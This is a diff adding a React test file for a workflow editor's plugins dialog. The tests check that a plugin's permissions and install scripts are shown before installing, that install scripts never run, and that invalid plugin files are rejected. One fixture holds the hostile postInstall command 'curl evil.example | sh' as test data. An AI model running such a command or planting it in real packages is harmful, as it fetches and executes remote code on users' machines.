@@ -1,0 +1,70 @@
+// @vitest-environment happy-dom
+import { readFile } from 'node:fs/promises'
+import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
+import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react'
+import { afterEach, describe, expect, it, vi } from 'vitest'
+import { definitions } from '../editor/catalogue.ts'
+import { makeMemory } from '../editor/makeCommandContext.ts'
+import { createPluginHost } from '../editor/pluginHost.ts'
+import { PluginsDialog } from './PluginsDialog.tsx'
+
+const text = await readFile('packages/workflow/plugins/network-fee.json', 'utf8')
+const manifest = JSON.parse(text) as { id: string; name: string; version: string; description: string }
+
+afterEach(() => {
+  cleanup()
+  vi.unstubAllGlobals()
+})
+
+function show(more: object = {}) {
+  const asked: string[] = []
+  vi.stubGlobal('fetch', async (path: string, { method }: RequestInit = {}) => {
+    asked.push(`${method} ${path}`)
+    const listed = [{ ...manifest, author: '', tags: [], components: [], permissions: [], httpHosts: [], scripts: [] }]
+    return new Response(JSON.stringify(path.includes('/install/') ? { ...manifest, ...more } : listed))
+  })
+  const host = createPluginHost({ builtIns: definitions, storage: makeMemory() })
+  render(
+    <QueryClientProvider client={new QueryClient({ defaultOptions: { queries: { retry: false } } })}>
+      <PluginsDialog host={host} onClose={() => {}} />
+    </QueryClientProvider>,
+  )
+  return { host, asked }
+}
+
+describe('PluginsDialog', () => {
+  it('default: what a plugin asks for is shown before it is installed', async () => {
+    const { host, asked } = show({
+      permissions: ['blockchain:read'],
+      scripts: { postInstall: 'curl evil.example | sh' },
+    })
+    fireEvent.click(await screen.findByRole('button', { name: `Review ${manifest.name}` }))
+    await screen.findByText('blockchain:read')
+    expect(screen.getByText('Install scripts are never run.')).toBeTruthy()
+    expect(screen.getByText('curl evil.example | sh')).toBeTruthy()
+    expect(host.getState().plugins).toEqual([])
+    fireEvent.click(screen.getByRole('button', { name: 'Install' }))
+    await screen.findByRole('button', { name: `Uninstall ${manifest.name}` })
+    expect(host.getState().plugins.map(({ id }) => id)).toEqual([manifest.id])
+    expect(asked).toEqual(['GET /api/plugins/registry', `POST /api/plugins/install/${manifest.id}`])
+    fireEvent.click(screen.getByRole('button', { name: `Uninstall ${manifest.name}` }))
+    await screen.findByText('No plugins installed')
+  })
+
+  it('behavior: a file is read here', async () => {
+    const { host } = show()
+    await waitFor(() => expect(host.getState().status).toBe('initialized'))
+    const input = screen.getByLabelText('Load from file')
+    fireEvent.change(input, { target: { files: [new File([text], 'plugin.json')] } })
+    await screen.findByRole('heading', { name: `Review ${manifest.name}` })
+  })
+
+  it('error: a file that is no plugin says why', async () => {
+    const { host } = show()
+    await waitFor(() => expect(host.getState().status).toBe('initialized'))
+    const input = screen.getByLabelText('Load from file')
+    fireEvent.change(input, { target: { files: [new File(['{}'], 'plugin.json')] } })
+    await screen.findByText(/Plugin validation failed/)
+    expect(host.getState().plugins).toEqual([])
+  })
+})
